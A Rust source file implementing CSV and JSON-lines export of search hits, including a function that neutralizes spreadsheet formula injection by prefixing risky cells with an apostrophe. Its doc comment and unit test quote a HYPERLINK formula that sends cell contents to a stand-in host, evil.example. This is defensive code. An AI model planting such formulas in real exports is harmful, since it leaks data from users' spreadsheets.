//! `search --format csv|jsonl`: a row or a line per matching file, written as the hits come,
//! for spreadsheets and scripts: a hit's identical copies (which search shows as one hit) each
//! get a row of their own, at the hit's rank, so that an export of `--all` has as many rows as
//! the search counts. CSV is UTF-8, quoted as RFC 4180 says, with a header; a snippet is plain
//! text (no markup), its page in a column of its own.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
//! Excel, and to LibreOffice when it evaluates formulas on import: a document titled
//! `=HYPERLINK("http://evil.example/?x="&A1,"click")` would run in the archivist's spreadsheet.
//! Such cells get a leading `'`, as OWASP advises (spreadsheets show the rest as text), unless
//! `--csv-raw` asks for the bytes. JSON lines are never changed.

use std::io::{self, Write};

use serde::Serialize;

use super::json::{HitJson, hit_json};
use crate::search::Hit;

/// The CSV columns, in order.
pub const CSV_COLUMNS: [&str; 24] = [
    "query",
    "rank",
    "score",
    "id",
    "path",
    "part",
    "page",
    "title",
    "lang",
    "langs",
    "date",
    "format",
    "sha256",
    "ocr_confidence",
    "snippet",
    "email",
    "url",
    "domain",
    "phone",
    "iban",
    "near_count",
    "near_ids",
    "thread",
    "thread_position",
];

pub enum Export<W: Write> {
    /// Boxed: the writer holds its buffer inline, and one exists per search. With `raw`,
    /// formulas are left as they are.
    Csv {
        writer: Box<csv::Writer<W>>,
        raw: bool,
    },
    Jsonl(W),
}

/// A JSON line: the query, then the hit as `search --json` gives it.
#[derive(Serialize)]
struct Line<'a> {
    query: &'a str,
    #[serde(flatten)]
    hit: HitJson<'a>,
}

impl<W: Write> Export<W> {
    /// CSV, its header written; `raw` leaves cells that look like formulas as they are.
    pub fn csv(out: W, raw: bool) -> io::Result<Export<W>> {
        let mut writer = csv::Writer::from_writer(out);
        writer.write_record(CSV_COLUMNS)?;
        Ok(Export::Csv {
            writer: Box::new(writer),
            raw,
        })
    }

    pub fn jsonl(out: W) -> Export<W> {
        Export::Jsonl(out)
    }

    /// Writes `hits`, found by `query`: each, then each of its copies.
    pub fn hits(&mut self, query: &str, hits: &[Hit]) -> io::Result<()> {
        for hit in hits {
            let part = hit.about.part.as_deref();
            let copies = std::iter::once(None).chain(hit.copies.iter().map(Some));
            for copy in copies {
                // A copy: its own path and id, the others as its copies.
                let id = copy.map(|c| crate::schema::document_id(c, part));
                match self {
                    Export::Csv { writer, raw } => {
                        let mut row = row(query, hit);
                        if let (Some(copy), Some(id)) = (copy, &id) {
                            row[3] = id.clone();
                            row[4] = crate::path_key::shown(copy);
                        }
                        if !*raw {
                            row.iter_mut().for_each(neutralize);
                        }
                        writer.write_record(row)?;
                    }
                    Export::Jsonl(out) => {
                        let mut line = Line {
                            query,
                            hit: hit_json(hit),
                        };
                        if let (Some(copy), Some(id)) = (copy, &id) {
                            line.hit.id = id;
                            line.hit.copies = std::iter::once(&hit.about.path)
                                .chain(hit.copies.iter().filter(|c| *c != copy))
                                .map(|c| crate::path_key::shown(c))
                                .collect();
                            line.hit.path = crate::path_key::shown(copy);
                        }
                        serde_json::to_writer(&mut *out, &line)?;
                        writeln!(out)?;
                    }
                }
            }
        }
        Ok(())
    }

    pub fn flush(&mut self) -> io::Result<()> {
        match self {
            Export::Csv { writer, .. } => writer.flush(),
            Export::Jsonl(out) => out.flush(),
        }
    }
}

/// A hit's CSV row, in [`CSV_COLUMNS`] order.
fn row(query: &str, hit: &Hit) -> [String; 24] {
    let about = &hit.about;
    [
        query.to_string(),
        hit.rank.to_string(),
        format!("{:.4}", hit.score),
        about.id.clone(),
        crate::path_key::shown(&about.path),
        about.part.clone().unwrap_or_default(),
        hit.snippet.page.map(|p| p.to_string()).unwrap_or_default(),
        about.title.clone(),
        about.lang.clone(),
        about.langs.join(","),
        about.date.clone().unwrap_or_default(),
        about.format.clone(),
        about.sha256.clone(),
        about.ocr.map(|c| format!("{c:.1}")).unwrap_or_default(),
        hit.snippet.text.clone(),
        // Each kind's values separated by spaces, which none of them holds.
        about.entities.emails.join(" "),
        about.entities.urls.join(" "),
        about.entities.domains.join(" "),
        about.entities.phones.join(" "),
        about.entities.ibans.join(" "),
        hit.near_count.to_string(),
        // The ids of the closest near copies (the `id` of their rows when they match too).
        hit.near_copies
            .iter()
            .map(|n| n.id.as_str())
            .collect::<Vec<_>>()
            .join(" "),
        hit.thread
            .as_ref()
            .map(|t| t.thread.clone())
            .unwrap_or_default(),
        // `2/5`: the message's place (an attachment's message's) and the thread's length.
        hit.thread
            .as_ref()
            .map(|t| format!("{}/{}", t.position, t.messages))
            .unwrap_or_default(),
    ]
}

/// A cell a spreadsheet would read as a formula, made text with a leading `'`. Only the numbers
/// this program writes (rank, score, page, confidence) may start with a sign, and none does.
pub(super) fn neutralize(cell: &mut String) {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        cell.insert(0, '\'');
    }
}

#[cfg(test)]
mod tests {
    use super::neutralize;

    #[test]
    fn formulas_become_text() {
        for (cell, shown) in [
            (
                "=HYPERLINK(\"http://evil.example\")",
                "'=HYPERLINK(\"http://evil.example\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Maizuru = port", "Maizuru = port"),
            ("0.51", "0.51"),
            ("", ""),
        ] {
            let mut cell = cell.to_string();
            neutralize(&mut cell);
            assert_eq!(cell, shown);
        }
    }
}
